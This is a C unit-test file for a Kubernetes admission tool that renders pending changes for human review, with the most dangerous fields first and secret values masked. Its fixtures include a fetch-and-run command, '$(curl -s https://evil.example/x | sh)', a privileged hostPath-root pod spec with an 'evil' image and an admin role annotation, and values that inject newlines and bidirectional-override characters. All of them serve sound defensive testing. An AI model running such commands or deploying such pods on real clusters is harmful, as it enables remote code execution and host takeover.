/* SPDX-License-Identifier: Apache-2.0 */
/* What people are shown of a change: all of it, the most dangerous first, no secrets. */
#include "support/run_tests.h"
#include "unit/hold_change_support.h"

static const struct {
	const char *expected, *operation, *resource, *members;
} cases[] = {
	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"data\",\"path\":\"data.a\",\"old\":"
	 "\"1\",\"new\":\"2\"}"
	 "]}",
		"UPDATE", "configmaps",
		",\"oldObject\":{\"data\":{\"a\":\"1\"}},\"object\":{\"data\":{\"a\":\"2\"}}"},
	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"data\",\"path\":\"data.a\",\"old\":"
	 "\"1\"}]}",
		"UPDATE", "configmaps",
		",\"oldObject\":{\"data\":{\"a\":\"1\",\"b\":\"2\"}},\"object\":{\"data\":{\"b\":"
		"\"2\"}}"},
	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"metadata\",\"path\":\"metadata."
	 "annotations[\\\"a.b/c\\\"]\","
	 "\"new\":\"x\"}]}",
		"UPDATE", "configmaps",
		",\"oldObject\":{\"metadata\":{\"annotations\":{\"k\":\"v\"}}},\"object\":{"
		"\"metadata\":{\"annotations\":{\"k\":\"v\",\"a.b/c\":\"x\"}}}"},
	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"runs\",\"path\":\"spec.containers["
	 "name=web].image\","
	 "\"old\":\"a\",\"new\":\"b\"}]}",
		"UPDATE", "pods",
		",\"oldObject\":{\"spec\":{\"containers\":[{\"name\":\"web\",\"image\":\"a\"}]}},"
		"\"object\":{\"spec\":{\"containers\":[{\"name\":\"web\",\"image\":\"b\"}]}}"},
	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"runs\",\"path\":\"spec.containers["
	 "name=two]\",\"new\":{"
	 "\"name\":\"two\"},\"place\":\"end\"}]}",
		"UPDATE", "pods",
		",\"oldObject\":{\"spec\":{\"containers\":[{\"name\":\"one\"}]}},\"object\":{"
		"\"spec\":{\"containers\":[{\"name\":\"one\"},{\"name\":\"two\"}]}}"},
	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"runs\",\"path\":\"spec.containers\","
	 "\"by\":\"name\",\"oldOrder\":[\"one\",\"two\"],\"order\":[\"two\","
	 "\"one\"]}]}",
		"UPDATE", "pods",
		",\"oldObject\":{\"spec\":{\"containers\":[{\"name\":\"one\"},{\"name\":\"two\"}]}}"
		","
		"\"object\":{\"spec\":{\"containers\":[{\"name\":\"two\"},{\"name\":\"one\"}]}}"},
	/* an element that is called as a place is */
	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"spec\",\"path\":\"spec.l[name=x]\","
	 "\"new\":{\"name\":"
	 "\"x\"},\"after\":\"start\"}]}",
		"UPDATE", "widgets",
		",\"oldObject\":{\"spec\":{\"l\":[{\"name\":\"start\"},{\"name\":\"y\"}]}},"
		"\"object\":{\"spec\":{\"l\":[{\"name\":\"start\"},{\"name\":\"x\"},{\"name\":"
		"\"y\"}]}}"},
	/* elements without a name, in another order */
	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"spec\",\"path\":\"spec.l\","
	 "\"by\":\"key\",\"oldOrder\":[\"a\",\"b\"],\"order\":[\"b\",\"a\"]}]}",
		"UPDATE", "widgets",
		",\"oldObject\":{\"spec\":{\"l\":[{\"key\":\"a\"},{\"key\":\"b\"}]}},\"object\":{"
		"\"spec\":{\"l\":[{\"key\":\"b\"},{\"key\":\"a\"}]}}"},
	/* of one name: it is not what they are told apart by */
	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"spec\",\"path\":\"spec.l\","
	 "\"by\":\"mountPath\",\"oldOrder\":[\"/a\",\"/b\"],\"order\":[\"/b\",\"/a\"]}]"
	 "}",
		"UPDATE", "widgets",
		",\"oldObject\":{\"spec\":{\"l\":[{\"name\":\"v\",\"mountPath\":\"/a\"},{\"name\":"
		"\"v\",\"mountPath\":\"/b\"}]}},\"object\":{\"spec\":{\"l\":[{\"name\":\"v\","
		"\"mountPath\":\"/b\"},{\"name\":\"v\",\"mountPath\":\"/a\"}]}}"},
	/* numbers as people write them, and a text that looks like one */
	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"spec\",\"path\":\"spec.l[port="
	 "\\\"8080\\\"].i\",\"old\":"
	 "1,\"new\":2},{\"part\":\"spec\",\"path\":\"spec.l[port=8080].i\",\"old\":1,\"new\":2},{"
	 "\"part\":\"spec\",\"path\":"
	 "\"spec.l[port=9]\",\"new\":{\"port\":9},\"after\":8080}]}",
		"UPDATE", "widgets",
		",\"oldObject\":{\"spec\":{\"l\":[{\"port\":8080,\"i\":1},{\"port\":\"8080\",\"i\":"
		"1}]}},\"object\":{\"spec\":{\"l\":[{\"port\":8080,\"i\":2},{\"port\":9},{\"port\":"
		"\"8080\",\"i\":2}]}}"},
	/* what identifies an element must not look like more of the path */
	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"spec\",\"path\":\"spec.l[name=\\\"a]."
	 "x[name=b\\\"].i\","
	 "\"old\":"
	 "1,\"new\":2},{\"part\":\"spec\",\"path\":\"spec.l[name=\\\"c\\\\u0000\\\"].i\",\"old\":1,"
	 "\"new\":2}]}",
		"UPDATE", "widgets",
		",\"oldObject\":{\"spec\":{\"l\":[{\"name\":\"a].x[name=b\",\"i\":1},{\"name\":"
		"\"c\\u0000\",\"i\":1}]}},\"object\":{\"spec\":{\"l\":[{\"name\":\"a].x[name=b\","
		"\"i\":2},{\"name\":\"c\\u0000\",\"i\":2}]}}"},
	{"{\"operation\":\"CREATE\",\"changes\":[{\"part\":\"data\",\"path\":\"data\",\"new\":{"
	 "\"a\":"
	 "\"1\"}}]}",
		"CREATE", "configmaps", ",\"object\":{\"data\":{\"a\":\"1\"}}"},
	/* who manages which field says nothing of the change */
	{"{\"operation\":\"CREATE\",\"changes\":[{\"part\":\"metadata\",\"path\":\"metadata.name\","
	 "\"new\":"
	 "\"x\"}]}",
		"CREATE", "configmaps",
		",\"object\":{\"metadata\":{\"managedFields\":[{\"manager\":\"kubectl\"}],\"name\":"
		"\"x\"}}"},
	{"{\"operation\":\"DELETE\",\"summary\":{\"data\":\"1 key, 3 "
	 "bytes\"},\"changes\":[{\"part\":"
	 "\"data\",\"path\":\"data\",\"old\":{\"a\":\"1\"}}]}",
		"DELETE", "configmaps", ",\"oldObject\":{\"data\":{\"a\":\"1\"}}"},
	{"{\"operation\":\"CONNECT\",\"changes\":[{\"part\":\"runs\",\"path\":\"command\",\"new\":["
	 "\"sh\"]}]}",
		"CONNECT", "pods", ",\"object\":{\"command\":[\"sh\"]}"},
	{"{\"operation\":\"DELETE\"}", "DELETE", "configmaps", ""},
	{"{\"operation\":\"UPDATE\",\"changes\":[{\"part\":\"spec\",\"path\":\"a\",\"new\":1}]}",
		"UPDATE", "configmaps", ",\"object\":{\"a\":1}"},
};

START_TEST(hold_change__of_each_operation)
{
	ck_assert_str_eq(change_of(cases[_i].operation, cases[_i].resource, cases[_i].members),
		cases[_i].expected);
	ck_assert_ptr_null(change.unseen.ptr);
}
END_TEST

/* What people read, in the order of what it can do. */
static const struct {
	const char *expected, *operation, *resource, *members;
} shown_cases[] = {
	/* A Scale to zero has no replicas; a Deployment without them is something else. */
	{"How many, how long:\n~ spec.replicas: 3 → 0\n", "UPDATE", "deployments",
		",\"subResource\":\"scale\",\"oldObject\":{\"spec\":{\"replicas\":3}},\"object\":{"
		"\"spec\":{}}"},
	{"How many, how long:\n~ spec.replicas: 0 → 2\n", "UPDATE", "deployments",
		",\"subResource\":\"scale\",\"oldObject\":{\"spec\":{}},\"object\":{\"spec\":{"
		"\"replicas\":2}}"},
	{"How many, how long:\n- spec.replicas: 3\n", "UPDATE", "deployments",
		",\"oldObject\":{\"spec\":{\"replicas\":3}},\"object\":{\"spec\":{}}"},
	{"How many, how long:\n~ spec.replicas: 1 → 0\n", "UPDATE", "deployments",
		",\"oldObject\":{\"spec\":{\"replicas\":1}},\"object\":{\"spec\":{\"replicas\":0}"
		"}"},
	/* null, absent, another type */
	{"Everything else:\n~ spec.a: 1 → null\n- spec.b: null\n+ spec.c: null\n~ spec.d: \"1\" → "
	 "1\n"
	 "~ spec.e: {} → []\n~ spec.f: [1] → {\"x\": 1}\n",
		"UPDATE", "widgets",
		",\"oldObject\":{\"spec\":{\"a\":1,\"b\":null,\"d\":\"1\",\"e\":{},\"f\":[1]}},"
		"\"object\":{\"spec\":{\"a\":null,\"c\":null,\"d\":1,\"e\":[],\"f\":{\"x\":1}}}"},
	/* lists whose elements nothing tells apart are one value */
	{"With which rights:\n- rules: [{\"verbs\": [\"get\"]}]\n+ rules: [{\"verbs\": [\"get\"]}, "
	 "{\"verbs\": "
	 "[\"*\"], \"resources\": [\"pods/exec\"]}]\n",
		"UPDATE", "roles",
		",\"oldObject\":{\"rules\":[{\"verbs\":[\"get\"]}]},\"object\":{\"rules\":[{"
		"\"verbs\":["
		"\"get\"]},{\"verbs\":[\"*\"],\"resources\":[\"pods/exec\"]}]}"},
	{"Everything else:\n- spec.l: [{\"name\": \"a\", \"v\": 1}, {\"name\": \"a\", \"v\": "
	 "2}]\n+ spec.l: "
	 "[{\"name\": \"a\", \"v\": 2}]\n",
		"UPDATE", "widgets",
		",\"oldObject\":{\"spec\":{\"l\":[{\"name\":\"a\",\"v\":1},{\"name\":\"a\",\"v\":2}"
		"]}},"
		"\"object\":{\"spec\":{\"l\":[{\"name\":\"a\",\"v\":2}]}}"},
	/* a pod, from what runs to what it is called */
	{"What runs:\n"
	 "+ spec.containers[name=c].command: [\"sh\", \"-c\", \"id\"]\n"
	 "+ spec.containers[name=c].image: \"evil/x:1\"\n"
	 "+ spec.containers[name=c].name: \"c\"\n"
	 "As whom:\n"
	 "+ spec.containers[name=c].securityContext: {\"privileged\": true}\n"
	 "+ spec.hostPID: true\n"
	 "+ spec.serviceAccountName: \"deployer\"\n"
	 "Secrets and environment:\n"
	 "+ spec.containers[name=c].envFrom: [{\"secretRef\": {\"name\": \"db\"}}]\n"
	 "Volumes:\n"
	 "+ spec.volumes: [{\"name\": \"v\", \"hostPath\": {\"path\": \"/\"}}]\n"
	 "On which nodes:\n"
	 "+ spec.nodeName: \"master-1\"\n"
	 "Everything else:\n"
	 "+ spec.containers[name=c].resources: {\"limits\": {\"cpu\": \"1\"}}\n"
	 "Metadata that acts:\n"
	 "+ metadata.annotations[\"eks.amazonaws.com/role-arn\"]: \"arn:aws:iam::1:role/admin\"\n"
	 "+ metadata.finalizers: [\"a/b\"]\n"
	 "+ metadata.labels: {\"app\": \"x\"}\n"
	 "Metadata:\n"
	 "+ apiVersion: \"v1\"\n"
	 "+ kind: \"Pod\"\n"
	 "+ metadata.annotations.note: \"read only and harmless\"\n"
	 "+ metadata.name: \"p\"\n",
		"CREATE", "pods",
		",\"object\":{\"apiVersion\":\"v1\",\"kind\":\"Pod\",\"metadata\":{\"annotations\":"
		"{"
		"\"note\":\"read only and harmless\",\"eks.amazonaws.com/role-arn\":"
		"\"arn:aws:iam::1:role/admin\"},\"finalizers\":[\"a/"
		"b\"],\"labels\":{\"app\":\"x\"},"
		"\"name\":\"p\"},\"spec\":{\"nodeName\":\"master-1\",\"hostPID\":true,"
		"\"serviceAccountName\":\"deployer\",\"volumes\":[{\"name\":\"v\",\"hostPath\":{"
		"\"path\":\"/"
		"\"}}],\"containers\":[{\"name\":\"c\",\"resources\":{\"limits\":{\"cpu\":"
		"\"1\"}},\"image\":\"evil/x:1\",\"command\":[\"sh\",\"-c\",\"id\"],\"envFrom\":[{"
		"\"secretRef\":{\"name\":\"db\"}}],\"securityContext\":{\"privileged\":true}}]}}"},
	/* a new element of a list, and one that is gone, in lines of their own */
	{"What runs:\n"
	 "+ spec.containers[name=b], at the end: new, with what is told of it\n"
	 "+ spec.containers[name=b].image: \"i\"\n"
	 "+ spec.containers[name=b].name: \"b\"\n"
	 "As whom:\n"
	 "+ spec.containers[name=b].securityContext: {\"privileged\": true}\n",
		"UPDATE", "pods",
		",\"oldObject\":{\"spec\":{\"containers\":[{\"name\":\"a\"}]}},\"object\":{"
		"\"spec\":{"
		"\"containers\":[{\"name\":\"a\"},{\"name\":\"b\",\"image\":\"i\","
		"\"securityContext\":{"
		"\"privileged\":true}}]}}"},
	{"What runs:\n"
	 "- spec.containers[name=b]: removed, with all in it\n"
	 "- spec.containers[name=b].image: \"i\"\n"
	 "- spec.containers[name=b].name: \"b\"\n"
	 "As whom:\n"
	 "- spec.containers[name=b].securityContext: {\"privileged\": true}\n",
		"UPDATE", "pods",
		",\"object\":{\"spec\":{\"containers\":[{\"name\":\"a\"}]}},\"oldObject\":{"
		"\"spec\":{"
		"\"containers\":[{\"name\":\"a\"},{\"name\":\"b\",\"image\":\"i\","
		"\"securityContext\":{"
		"\"privileged\":true}}]}}"},
	/* a deletion begins with what is lost */
	{"- what: Deployment\n"
	 "- replicas: 3\n"
	 "- ready: 2\n"
	 "- containers: 2: web (nginx:1), proxy (envoy:2)\n"
	 "- owner: Shop/checkout\n"
	 "- finalizers: a/b\n"
	 "- created: 1970-01-01T00:00:00Z",
		"DELETE", "deployments",
		",\"oldObject\":{\"kind\":\"Deployment\",\"metadata\":{\"creationTimestamp\":"
		"\"1970-01-01T00:00:00Z\",\"finalizers\":[\"a/b\"],\"ownerReferences\":[{\"kind\":"
		"\"Shop\",\"name\":\"checkout\"}]},\"spec\":{\"replicas\":3,\"template\":{\"spec\":"
		"{"
		"\"containers\":[{\"name\":\"web\",\"image\":\"nginx:1\"},{\"name\":\"proxy\","
		"\"image\":"
		"\"envoy:2\"}]}}},\"status\":{\"readyReplicas\":2}}"},
	/* no value looks like a line, a key or a path of its own */
	{"Data:\n~ data[\"a\\n+ spec.replicas\"]: \"1\" → \"x\\n+ spec.replicas: 5\\u202e\"\n",
		"UPDATE", "configmaps",
		",\"oldObject\":{\"data\":{\"a\\n+ "
		"spec.replicas\":\"1\"}},\"object\":{\"data\":{\"a\\n+ "
		"spec.replicas\":\"x\\n+ spec.replicas: 5\\u202e\"}}"},
	{"Everything else:\n~ a.b[\"c/d\"]: 1 → 2\n~ [\"a.b\"][\"c/d\"]: 1 → 2\n", "UPDATE",
		"widgets",
		",\"oldObject\":{\"a.b\":{\"c/d\":1},\"a\":{\"b\":{\"c/"
		"d\":1}}},\"object\":{\"a.b\":{"
		"\"c/d\":2},\"a\":{\"b\":{\"c/d\":2}}}"},
};

START_TEST(hold_change__as_people_read_it)
{
	const char *expected = shown_cases[_i].expected,
		   *got = shown(shown_cases[_i].operation, shown_cases[_i].resource,
			   shown_cases[_i].members);

	if (strcmp(shown_cases[_i].operation, "DELETE") == 0)
		ck_assert_msg(strncmp(got, expected, strlen(expected)) == 0, "%s", got);
	else
		ck_assert_str_eq(got, expected);
	ck_assert_ptr_null(change.unseen.ptr);
}
END_TEST

START_TEST(hold_change__a_changed_secret_shows_without_its_value)
{
	const char *stored = change_of("UPDATE", "secrets",
		",\"oldObject\":{\"data\":{\"pw\":\"aHVudGVyMQ==\"}},\"object\":{\"data\":{\"pw\":"
		"\"aHVudGVyMg==\"}}");

	ck_assert_ptr_nonnull(strstr(stored, "\"path\":\"data.pw\",\"old\":\"[masked "));
	ck_assert_ptr_nonnull(strstr(stored, "\"hidden\":{\"values\":2,\"bytes\":14}"));
	ck_assert_ptr_null(strstr(stored, "aHVudGVy"));
	ck_assert_ptr_null(strstr(stored, "hunter"));
}
END_TEST

START_TEST(hold_change__what_is_hidden_is_said_beside_it)
{
	const char *seen = shown("CREATE", "secrets",
		",\"object\":{\"stringData\":{\"run\":\"$(curl -s https://evil.example/x | "
		"sh)\"}}");

	ck_assert_msg(
		strstr(seen, "\n! unreadable for you: 38 bytes of this line are masked; they "
			     "contain $( | :// (a "
			     "shell or a program may obey them); decide accordingly\n") != NULL,
		"%s", seen);
}
END_TEST

START_TEST(hold_change__selectors_of_a_list_are_shown)
{
	/* The selectors of a question, what is stored, and the short form. */
	static const char *const lists[][3] = {
		{"", "{\"operation\":\"list\"}", ""},
		{",\"labelSelector\":null", "{\"operation\":\"list\"}", ""},
		{",\"labelSelector\":{\"rawSelector\":\"a=b\"}",
			"{\"operation\":\"list\",\"options\":{\"labelSelector\":{\"rawSelector\":"
			"\"a=b\"}}}",
			"+ {\"labelSelector\": {\"rawSelector\": \"a=b\"}}\n"},
		{",\"fieldSelector\":{\"requirements\":[]},\"labelSelector\":{\"rawSelector\":"
		 "\"a=b\"}",
			"{\"operation\":\"list\",\"options\":{\"fieldSelector\":{\"requirements\":["
			"]},\"labelSelector\":{\"rawSelector\":\"a=b\"}}}",
			"+ {\"fieldSelector\": {\"requirements\": []}, \"labelSelector\": "
			"{\"rawSelector\": \"a=b\"}}\n"},
	};
	char list[512];
	struct review r;
	struct err e;

	snprintf(list, sizeof(list),
		"{\"kind\":\"SubjectAccessReview\",\"apiVersion\":\"authorization.k8s.io/v1\","
		"\"spec\":{\"user\":\"u\",\"resourceAttributes\":{\"verb\":\"list\","
		"\"resource\":\"secrets\"%s}}}",
		lists[_i][0]);
	ck_assert_msg(review_read(span_of(list), 1000, arena, &r, &e) == REVIEW_OK, "%s", e.msg);
	ck_assert_int_eq(hold_change_of(masker, &r.request, arena, &change), 0);
	ck_assert_ptr_null(change.unseen.ptr);
	ck_assert_str_eq(change.text.ptr, lists[_i][1]);
	ck_assert_str_eq(change.brief.ptr, lists[_i][2]);
}
END_TEST

START_TEST(hold_change__without_memory_nothing_is_shown)
{
	struct review r;
	struct err e;

	change_of("CREATE", "configmaps", ",\"object\":{\"data\":{\"a\":\"1\"}}");
	ck_assert_int_eq(
		review_read((struct span){buf_str(&text), text.len}, 1000000, arena, &r, &e),
		REVIEW_OK);
	while (arena_alloc(arena, 1))
		;
	ck_assert_int_eq(hold_change_of(masker, &r.request, arena, &change), -1);
}
END_TEST

int main(void)
{
	TCase *t = tcase_create("hold_change");

	tcase_add_checked_fixture(t, setup, teardown);
	tcase_set_timeout(t, 120);
	tcase_add_loop_test(t, hold_change__of_each_operation, 0, ARRAY_LEN(cases));
	tcase_add_loop_test(t, hold_change__as_people_read_it, 0, ARRAY_LEN(shown_cases));
	tcase_add_test(t, hold_change__a_changed_secret_shows_without_its_value);
	tcase_add_test(t, hold_change__what_is_hidden_is_said_beside_it);
	tcase_add_loop_test(t, hold_change__selectors_of_a_list_are_shown, 0, 4);
	tcase_add_test(t, hold_change__without_memory_nothing_is_shown);
	return run_tests(t);
}
